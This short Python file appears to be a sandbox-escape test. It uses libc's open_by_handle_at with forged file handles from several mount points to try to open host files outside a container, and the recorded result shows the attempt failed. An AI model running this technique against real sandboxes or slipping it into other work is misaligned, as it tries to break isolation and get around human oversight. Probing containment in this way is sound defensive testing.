# Tries: open the host's files by handles, around all paths
# Test: assert f() == 'broken out'
# Expect: failed
# Actual: []
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def f():
    opened = []
    for place in (b"/", b"/tmp", os.__file__.encode(), b"/proc", b"/dev/null"):
        mount = os.open(place, os.O_RDONLY)
        for node in (2, 1, 64, 128, 256):
            for kind, size, handle in ((1, 8, struct.pack("<II", node, 0)), (129, 8, struct.pack("<Q", node))):
                data = ctypes.create_string_buffer(struct.pack("<Ii", size, kind) + handle, 136)
                descriptor = libc.open_by_handle_at(mount, data, os.O_RDONLY)
                if descriptor >= 0:
                    opened.append((place, node))
                    os.close(descriptor)
        os.close(mount)
    return opened
